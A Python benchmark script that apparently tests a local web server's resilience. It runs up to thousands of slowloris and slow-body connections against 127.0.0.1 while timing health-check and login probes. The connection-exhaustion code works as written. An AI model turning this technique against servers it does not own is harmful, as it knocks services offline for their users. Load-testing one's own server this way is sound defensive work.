#!/usr/bin/env python3
"""bench/hostile.py — slowloris and slow-body connections from one address while another
client probes /healthz and signs in; prints the share of probes answered within 1 s.

  hostile.py PORT FIRM EMAIL PASSWORD [--slowloris N] [--slowbody N] [--seconds S]
             [--attacker 127.0.0.2] [--client 127.0.0.1]

Attack connections come from --attacker; each slowloris connection sends an unfinished head
and one more header line every 5 s, each slow-body connection a complete POST head with
Content-Length 1000 (under the sign-in route's limit) and then one byte every 5 s. A connection the server closes is opened
again at once, so the attack stays at full strength for the whole run. Probes come from
--client: GET /healthz and POST /api/v1/auth/login alternately, each on a new connection with a
1 s timeout, one every 100 ms.
"""
import argparse
import json
import resource
import selectors
import socket
import threading
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("firm")
    ap.add_argument("email")
    ap.add_argument("password")
    ap.add_argument("--slowloris", type=int, default=1000)
    ap.add_argument("--slowbody", type=int, default=1000)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--attacker", default="127.0.0.2")
    ap.add_argument("--client", default="127.0.0.1")
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.slowloris + a.slowbody + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    stop = time.monotonic() + a.seconds
    stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "live_max": 0}
    sel = selectors.DefaultSelector()
    conns = {}  # sock -> (kind, next_send)

    head_lo = b"GET /healthz HTTP/1.1\r\nHost: victim\r\nX-Slow-0: a\r\n"
    head_body = (b"POST /api/v1/auth/login HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n"
                 b"Content-Length: 1000\r\n\r\n{")

    def open_one(kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((a.attacker, 0))
            s.connect_ex(("127.0.0.1", a.port))
        except OSError:
            stats["connect_failed"] += 1
            s.close()
            return
        conns[s] = [kind, time.monotonic() + 0.05, False]
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        stats["opened"] += 1

    def attacker():
        for _ in range(a.slowloris):
            open_one("lo")
        for _ in range(a.slowbody):
            open_one("body")
        while time.monotonic() < stop:
            now = time.monotonic()
            for key, ev in sel.select(timeout=0.2):
                s = key.fileobj
                kind, nxt, started = conns[s]
                if ev & selectors.EVENT_WRITE and not started:
                    try:
                        s.send(head_lo if kind == "lo" else head_body)
                        conns[s][2] = True
                    except OSError:
                        pass
                    sel.modify(s, selectors.EVENT_READ)
                    conns[s][1] = now + 5
                elif ev & selectors.EVENT_READ:
                    try:
                        data = s.recv(4096)
                    except OSError:
                        data = b""
                    if not data:
                        stats["closed_by_server"] += 1
                        sel.unregister(s)
                        del conns[s]
                        s.close()
                        open_one(kind)
            for s, (kind, nxt, started) in list(conns.items()):
                if started and now >= nxt:
                    try:
                        s.send(b"X-Slow: a\r\n" if kind == "lo" else b" ")
                    except OSError:
                        pass
                    conns[s][1] = now + 5
            stats["live_max"] = max(stats["live_max"], len(conns))
        for s in list(conns):
            s.close()

    results = {"healthz": [], "login": []}

    def probe(kind):
        body = json.dumps({"firm": a.firm, "email": a.email, "password": a.password}).encode()
        if kind == "healthz":
            req = b"GET /healthz HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n"
        else:
            req = (b"POST /api/v1/auth/login HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n"
                   b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        t0 = time.monotonic()
        ok = False
        try:
            s = socket.create_connection(("127.0.0.1", a.port), timeout=1.0, source_address=(a.client, 0))
            s.settimeout(max(0.01, 1.0 - (time.monotonic() - t0)))
            s.sendall(req)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            s.close()
            ok = data.startswith(b"HTTP/1.1 200 ")
        except OSError:
            ok = False
        elapsed = time.monotonic() - t0
        results[kind].append((ok and elapsed <= 1.0, elapsed))

    t = threading.Thread(target=attacker)
    t.start()
    time.sleep(min(3.0, a.seconds / 4))  # let the attack build up
    i = 0
    while time.monotonic() < stop - 1:
        probe("healthz" if i % 2 == 0 else "login")
        i += 1
        time.sleep(0.1)
    t.join()

    print(f"attack from {a.attacker}: {a.slowloris} slowloris + {a.slowbody} slow-body connections, "
          f"{a.seconds:.0f} s; opened {stats['opened']}, closed by the server {stats['closed_by_server']}, "
          f"connect failures {stats['connect_failed']}, most open at once {stats['live_max']}")
    worst = 0.0
    for kind, rs in results.items():
        good = sum(1 for ok, _ in rs if ok)
        lat = sorted(e for _, e in rs)
        p50 = lat[len(lat) // 2] if lat else 0
        p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] if lat else 0
        share = 100.0 * good / len(rs) if rs else 0.0
        worst = share if kind == "healthz" else min(worst, share)
        print(f"{kind:8s} from {a.client}: {good}/{len(rs)} answered 200 within 1 s ({share:.1f}%), "
              f"p50 {p50 * 1000:.1f} ms, p99 {p99 * 1000:.1f} ms")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
